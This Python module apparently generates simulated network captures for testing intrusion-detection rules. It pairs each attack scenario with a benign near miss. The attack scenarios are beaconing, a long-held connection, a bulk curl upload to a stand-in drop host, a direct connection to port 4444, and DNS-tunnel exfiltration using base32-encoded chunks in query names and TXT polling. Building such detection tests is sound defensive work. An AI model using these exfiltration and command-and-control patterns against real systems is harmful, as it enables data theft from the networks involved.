# SPDX-License-Identifier: Apache-2.0
"""D16 to D22: what hosts do. Rhythms are drawn from the laboratory's random numbers, the same at every remake."""
import base64

from . import capture

VENDOR, ADDRESS, PORT = "api.vendor.example", "192.0.2.40", 8443


def service(lab, name=VENDOR, address=ADDRESS):
    lab.public(address)
    lab.names.address(name, address)
    lab.serve(lab.internet, "answer.py", PORT, '{"ok":true}', tcp=PORT)


def call(lab, host, size=60):
    lab.play(host, "say.py", VENDOR, PORT, "x" * size)


def wait(lab, seconds):
    lab.later(settle=0.03, seconds=seconds)


# ------------------------------------------------------------- D16 first seen

def partners(lab, host, days):
    for _ in range(days):
        for name in ("updates.partner.example", "mail.supplier.example"):
            lab.curl(host, f"https://{name}/")
        lab.later(days=1)


def places(lab):
    for number, name in enumerate(("updates.partner.example", "mail.supplier.example", "files.stranger.example")):
        lab.site(name, f"192.0.2.{50 + number}")


@capture("2026-03-02 08:00:00", ["1791600:3"], hosts={30: "server"})
def d16_stranger(lab):
    """A server has had two partners for nine days; then it fetches from a third that nobody here ever met"""
    server = lab.host("server", 30)
    places(lab)
    with lab.recording():
        partners(lab, server, 9)
        lab.curl(server, "https://files.stranger.example/")


@capture("2026-03-02 08:00:00", hosts={30: "server"})
def d16_desk_near_miss(lab):
    """A desk meets the stranger: a label. What the server met in the first week is no news either"""
    server, desk = lab.host("server", 30), lab.host("desk", 31)
    places(lab)
    with lab.recording():
        partners(lab, server, 9)
        lab.curl(desk, "https://files.stranger.example/")


# ------------------------------------------------------------------ D17 beacon

@capture("2026-03-09 00:02:00", ["1791700:2"])
def d17_beacon(lab):
    """Every ten minutes give or take three, for a day, with sizes that vary by a fifth"""
    desk = lab.host("desk", 30)
    service(lab)
    with lab.recording():
        for _ in range(142):
            call(lab, desk, 60 + lab.random.randrange(-12, 13))
            wait(lab, 600 + lab.random.uniform(-180, 180))


@capture("2026-03-09 08:05:00")
def d17_person_near_miss(lab):
    """As many calls to one place in office hours, as a person works: in bursts, with pauses, of all sizes"""
    desk = lab.host("desk", 30)
    service(lab)
    with lab.recording():
        for _ in range(28):
            for _ in range(lab.random.randrange(1, 9)):
                call(lab, desk, lab.random.randrange(20, 1200))
                wait(lab, lab.random.expovariate(1 / 15))
            wait(lab, 60 + lab.random.expovariate(1 / 900))


@capture("2026-03-02 01:10:00", ["1791701:2"] * 4)
def d17_slow_beacon(lab):
    """Six times a day, every four hours give or take a quarter, for a week: the day shows nothing, the week does, once a day from the
    fourth on"""
    desk = lab.host("desk", 30)
    service(lab)
    with lab.recording():
        for _ in range(42):
            call(lab, desk)
            wait(lab, 14400 + lab.random.uniform(-900, 900))


@capture("2026-03-02 08:10:00")
def d17_slow_person_near_miss(lab):
    """A few calls a day for a week, when a person felt like it"""
    desk = lab.host("desk", 30)
    service(lab)
    with lab.recording():
        for _ in range(7):
            pauses = sorted(lab.random.uniform(0, 9 * 3600) for _ in range(6))
            for before, pause in zip([0] + pauses, pauses):
                wait(lab, 1 + pause - before)
                call(lab, desk, lab.random.randrange(20, 900))
            wait(lab, 86400 - pauses[-1])


# ------------------------------------------------------------- D18, D19, D22

def stay(lab, host, minutes):
    """One connection that says a line every nine minutes."""
    with host.running("/usr/bin/python3", lab.program("hold.py"), VENDOR, PORT) as client:
        for _ in range(minutes // 9):
            client.stdin.write(b"still here\n")
            client.stdin.flush()
            lab.later(minutes=9)


@capture("2026-03-09 10:00:00", ["1791800:3"])
def d18_long(lab):
    """A connection stays open for 72 minutes"""
    desk = lab.host("desk", 30)
    service(lab)
    with lab.recording():
        stay(lab, desk, 72)


@capture("2026-03-09 10:00:00")
def d18_shorter_near_miss(lab):
    """A connection stays open for 54 minutes"""
    desk = lab.host("desk", 30)
    service(lab)
    with lab.recording():
        stay(lab, desk, 54)


def collector(lab, *names):
    for number, name in enumerate(names):
        lab.public(f"192.0.2.{60 + number}")
        lab.names.address(name, f"192.0.2.{60 + number}")
    lab.serve(lab.internet, "collector.js", 80, tcp=80)


def send(lab, host, name, megabytes):
    lab.curl(host, "-H", "Expect:", "-T", lab.file("archive", bytes(megabytes * 1000000)), f"http://{name}/archive")


@capture("2026-03-09 19:40:00", ["1791900:2"])
def d19_upload(lab):
    """A desk sends 21 MB to one place and gets next to nothing (jumbo frames)"""
    lab.jumbo_frames()
    desk = lab.host("desk", 30)
    collector(lab, "drop.stranger.example")
    with lab.recording():
        send(lab, desk, "drop.stranger.example", 21)


@capture("2026-03-09 19:40:00")
def d19_backup_near_miss(lab):
    """21 MB go to a backup service of usual.csv, 12 MB to another place"""
    lab.jumbo_frames()
    desk = lab.host("desk", 30)
    collector(lab, "s3.us-west-000.backblazeb2.com", "drop.stranger.example")
    with lab.recording():
        send(lab, desk, "s3.us-west-000.backblazeb2.com", 21)
        send(lab, desk, "drop.stranger.example", 12)


def look_up(lab, host):
    """Ask DNS for something now and then, as any host does, for an hour and more."""
    for _ in range(8):
        host.run("kdig", VENDOR)
        lab.later(minutes=10)


@capture("2026-03-09 13:00:00", ["1792200:3"])
def d22_direct(lab):
    """A host that resolves all else opens port 4444 of an address that no answer gave"""
    desk = lab.host("desk", 30)
    service(lab)
    lab.public("203.0.113.44")
    lab.serve(lab.internet, "answer.py", 4444, "ok", tcp=4444)
    with lab.recording():
        look_up(lab, desk)
        lab.play(desk, "say.py", "203.0.113.44", 4444, "hello")


@capture("2026-03-09 13:00:00")
def d22_resolved_near_miss(lab):
    """The same port, but the host resolved the address; and before its DNS was watched for an hour, an address that it did not"""
    desk = lab.host("desk", 30)
    service(lab)
    lab.public("203.0.113.44")
    lab.names.address("game.vendor.example", "203.0.113.44")
    lab.serve(lab.internet, "answer.py", 4444, "ok", tcp=4444)
    with lab.recording():
        lab.play(desk, "say.py", ADDRESS, 4444, "hello")
        look_up(lab, desk)
        lab.play(desk, "say.py", "game.vendor.example", 4444, "hello")


# -------------------------------------------------------------- D20 DNS tunnel

def ask(lab, host, names, kind):
    for at in range(0, len(names), 20):
        host.run("kdig", "+retry=0", *(word for name in names[at:at + 20] for word in (name, kind)))
        lab.later(seconds=20)


@capture("2026-03-09 11:00:00", ["1792000:2"])
def d20_exfiltration(lab):
    """A file leaves in the names of A questions below one domain: 200 names of 100 letters"""
    desk = lab.host("desk", 30)
    chunks = [base64.b32encode(lab.bytes(62)).decode().rstrip("=").lower() for _ in range(200)]
    with lab.recording():
        ask(lab, desk, [f"{c[:50]}.{c[50:]}.t.stranger.example" for c in chunks], "A")


@capture("2026-03-09 11:00:00", ["1792001:2"])
def d20_random_names(lab):
    """130 random names of 33 letters: too few bytes for the first rule"""
    desk = lab.host("desk", 30)
    chunks = [base64.b32encode(lab.bytes(20)).decode().rstrip("=").lower() for _ in range(130)]
    with lab.recording():
        ask(lab, desk, [f"{c}.t.stranger.example" for c in chunks], "A")


@capture("2026-03-09 11:00:00", ["1792002:2"])
def d20_polling_txt(lab):
    """An implant fetches its orders in TXT records, 120 times in an hour, by short names"""
    desk = lab.host("desk", 30)
    with lab.recording():
        ask(lab, desk, [f"{number}.c.stranger.example" for number in range(120)], "TXT")


@capture("2026-03-09 11:00:00", ["1792003:3"])
def d20_encoded(lab):
    """A single name that reads like base 64"""
    desk = lab.host("desk", 30)
    with lab.recording():
        desk.run("getent", "ahostsv4", base64.b64encode(lab.bytes(42)).decode() + ".stranger.example", fails=True)


@capture("2026-03-09 11:00:00")
def d20_reputation_near_miss(lab):
    """A virus scanner asks for as many digests below a domain of usual.csv, and a page draws 40 long names of a content network"""
    desk = lab.host("desk", 30)
    digests = [lab.bytes(32).hex() for _ in range(200)]
    with lab.recording():
        ask(lab, desk, [f"{d[:40]}.{d[40:]}.h.p.01.s.sophosxl.net" for d in digests], "A")
        ask(lab, desk, [f"{d[:24]}.edge.cdn.example" for d in digests[:40]], "A")
